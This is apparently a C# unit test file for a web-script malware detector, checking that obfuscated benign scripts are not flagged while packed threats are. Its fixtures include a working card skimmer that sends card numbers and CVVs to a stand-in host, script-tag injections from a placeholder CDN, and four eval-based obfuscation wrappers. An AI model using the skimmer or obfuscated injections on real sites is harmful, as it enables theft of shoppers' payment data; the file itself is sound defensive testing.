using PageShield.Detection;
using PageShield.Inventory;

namespace PageShield.Tests.Detection;

/// <summary>Honest code stays short of malicious however it is packed; what does harm does not get away by it.</summary>
public sealed class HidingAloneTests
{
    private static readonly ScriptJudge Judge = new();

    private static readonly Dictionary<string, Func<string, string>> PackerNames = new(StringComparer.Ordinal)
    {
        ["codes"] = source =>
            $"var c=[{string.Join(',', source.Select(letter => (int)letter))}],s='';for(var i=0;i<c.length;i++)s+=String.fromCharCode(c[i]);eval(s);",
        ["escapes"] = source => $"eval(unescape('{string.Concat(source.Select(letter => $"%{(int)letter:x2}"))}'));",
        ["base64"] = source => $"eval(atob('{Convert.ToBase64String(System.Text.Encoding.Latin1.GetBytes(source))}'));",
        ["hex texts"] = source => $"Function('{string.Concat(source.Select(letter => $"\\x{(int)letter:x2}"))}')();",
    };

    private static readonly Dictionary<string, string> Honest = new(StringComparer.Ordinal)
    {
        ["loader"] = """
            var base = 'https://stats.vendor-files.example/t.js', page = window.snapshot;
            function start() {
              if (/MSIE/.test(navigator.userAgent)) return;
              var script = document.createElement('script');
              script.src = base + (page ? '?s=' + page.id + '&' : '?') + 't=' + new Date().getTime();
              document.getElementsByTagName('head')[0].appendChild(script);
            }
            if (!document.cookie.match(/optout=1/)) start();
            """,
        ["challenge"] = """
            class Challenge extends HTMLElement {
              connectedCallback() { this.onDone(this.getAttribute('onsolve')); fetch('https://captcha.example/challenge').then(function (answer) { return answer.json(); }).then((task) => this.solve(task)); }
              onDone(code) { this.addEventListener('solve', new Function('event', code)); }
              async solve(task) { this.answer = await (await fetch('https://captcha.example/redeem', { method: 'POST', body: JSON.stringify(task) })).json(); }
              link() { window.open('https://captcha.example/?' + new URLSearchParams({ utm_source: 'widget', ref: location.href })); }
            }
            customElements.define('x-challenge', Challenge);
            """,
        ["proof of work"] = """
            var worker = new Worker('solver.js');
            worker.postMessage({ nonce: 1, target: 4, worker: 'w1' });
            worker.onmessage = function (event) { window.totalHashes = (window.totalHashes || 0) + event.data.hashes; document.querySelector('.progress').title = 'totalHashes ' + window.totalHashes; };
            """,
        ["fraud check"] = """
            var warnings = { card: 'Card has expired or invalid date' };
            document.querySelector('#card-number').addEventListener('input', function (event) { event.target.value = event.target.value.replace(/\D/g, '').slice(0, 16); });
            console.log('[Checkout] no skimmer found on this page');
            document.querySelector('#cardholder-name').addEventListener('keyup', function (event) { document.querySelector('#hint').textContent = warnings.card; });
            """,
    };

    /// <summary>Every honest script in every packing.</summary>
    public static TheoryData<string, string> Packed => [.. Honest.Keys.SelectMany(script => PackerNames.Keys.Select(packer => (script, packer)))];

    /// <summary>Every packing.</summary>
    public static TheoryData<string> Packers => [.. PackerNames.Keys];

    [Theory]
    [MemberData(nameof(Packed))]
    public void Honest_code_is_at_most_suspicious_for_being_packed(string script, string packer) =>
        Assert.NotEqual(VerdictKind.Malicious, Judge.Judge(new ScriptInput { Source = PackerNames[packer](Honest[script]) }).Verdict);

    [Theory]
    [MemberData(nameof(Packers))]
    public void What_takes_cards_is_malicious_in_every_packing(string packer)
    {
        const string source = """
            document.getElementById('place-order').addEventListener('click', function () {
                var stolen = { n: document.querySelector('#card_number').value, c: document.querySelector('[name="cvv"]').value };
                fetch('https://metrics-collect.example/a', { method: 'POST', body: JSON.stringify(stolen) });
            });
            """;
        Assert.Equal(VerdictKind.Malicious, Judge.Judge(new ScriptInput { Source = PackerNames[packer](source) }).Verdict);
    }

    [Theory]
    [MemberData(nameof(Packers))]
    public void A_tag_that_is_hidden_with_all_of_its_address_is_malicious(string packer) =>
        Assert.Equal(VerdictKind.Malicious,
            Judge.Judge(
            new ScriptInput { Source = PackerNames[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js"><\/script>')""") })
            .Verdict);

    [Theory]
    [MemberData(nameof(Packers))]
    public void A_query_that_the_code_fixes_is_no_way_out(string packer) =>
        Assert.Equal(VerdictKind.Malicious,
            Judge.Judge(
            new ScriptInput { Source = PackerNames[packer]("""document.write('<script src="//cdn-metrics-files.example/j.js?v=7"><\/script>')""") })
            .Verdict);

    [Fact]
    public void A_library_is_not_judged_by_what_its_timers_are_handed()
    {
        const string source = """
            function later(task, delay) { return window.setTimeout(task, delay); }
            later(function () { document.body.className = 'ready'; }, 10);
            later(decodeURIComponent(document.getElementById('template').textContent), 10);
            """;
        Assert.DoesNotContain(Judge.Judge(new ScriptInput { Source = source }).Findings, finding => finding.Rule == "code-from-page-text");
    }
}
